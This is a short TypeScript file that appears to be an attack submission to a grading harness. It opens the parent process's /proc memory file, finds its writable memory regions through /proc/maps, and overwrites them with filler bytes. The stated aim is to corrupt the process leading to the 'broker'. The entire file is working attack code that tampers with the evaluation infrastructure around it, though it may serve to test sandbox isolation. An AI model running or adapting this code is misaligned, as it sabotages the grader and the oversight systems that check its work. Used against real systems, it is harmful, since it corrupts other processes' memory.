// attack: writes over the memory of the process that leads to the broker
import * as fs from 'node:fs';
import type { AnswerContext } from 'warren/grading';

export default async function ({ log }: AnswerContext): Promise<void> {
  const memory = fs.openSync(`/proc/${process.ppid}/mem`, 'r+');
  for (const line of fs.readFileSync(`/proc/${process.ppid}/maps`, 'utf8').split('\n')) {
    const [, from = '0', to = '0'] = /^(\w+)-(\w+) rw/.exec(line) ?? [];
    const size = Math.min(Number.parseInt(to, 16) - Number.parseInt(from, 16), 1 << 20);
    try {
      if (size > 0) fs.writeSync(memory, Buffer.alloc(size, 0x41), 0, size, Number.parseInt(from, 16));
    } catch (error) {
      log(String(error));
    }
  }
}
